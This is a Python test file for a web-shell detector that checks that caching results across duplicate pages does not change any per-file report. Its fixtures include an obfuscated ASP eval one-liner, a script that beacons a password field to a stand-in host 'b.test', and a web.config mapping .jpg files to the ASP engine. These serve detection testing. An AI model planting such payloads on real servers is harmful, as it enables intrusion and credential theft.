"""A page that lies in a hundred folders is looked at once, and each copy gets the report that it would get alone."""

import sys

import pytest

from exsweep.detect.webshell import Remembered, examine
from exsweep.detect.webshell.named import named
from exsweep.model.files import FileVerdict

from .pages import whole

PATHS = (
    "C/inetpub/wwwroot/a.aspx",
    "C/inetpub/wwwroot/b.ASPX",
    "C/inetpub/wwwroot/b.aspx;.jpg",
    "C/inetpub/wwwroot/aspnet_client/a.aspx",
    "C/inetpub/wwwroot/aspnet_client/system_web/supp0rt.aspx",
    "C/Exchange/FrontEnd/HttpProxy/owa/auth/logon.aspx",
    "C/Exchange/FrontEnd/HttpProxy/owa/auth/errorFE.aspx",
    "web.config",
    "a.asp",
    "a.js",
    "",
)
PAGES = (
    b"<html></html>",
    b"<%@ Page Language='C#' %><%= DateTime.Now %>",
    b'<% Response.Write Now() : Set o = Server.CreateObject("ADODB.Connection") %>',
    whole("<~% ev~al req~uest(1) %~>"),
    b"<form><input type=password id=p></form><script>var a = p.value; new Image().src = '//b.test/?' + a;</script>",
    b"<configuration><handlers><add name='a' path='*.jpg' verb='*' scriptProcessor='asp.dll'/></handlers></configuration>",
)


@pytest.mark.parametrize("most", [16_384, 2, 0])
def test_what_was_said_of_others_changes_no_report(most: int) -> None:
    seen = Remembered(most)
    for _ in range(2):
        for data in PAGES:
            for path in PATHS:
                assert examine(data, path, seen=seen) == examine(data, path)


def test_an_equal_page_in_a_like_place_is_not_looked_at_again(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = Remembered()
    first = examine(PAGES[2], PATHS[0], seen=seen)
    assert first.verdict is FileVerdict.UNREMARKABLE
    monkeypatch.setattr(sys.modules["exsweep.detect.webshell.examine"], "read_page", None)
    assert examine(PAGES[2], PATHS[1], seen=seen).reasons == first.reasons
    with pytest.raises(TypeError):
        examine(PAGES[2], "a.asp", seen=seen)


def test_a_place_that_speaks_against_a_page_is_a_place_of_its_own() -> None:
    assert named(PATHS[0]) == named(PATHS[1])
    assert len({named(path) for path in PATHS}) >= 7
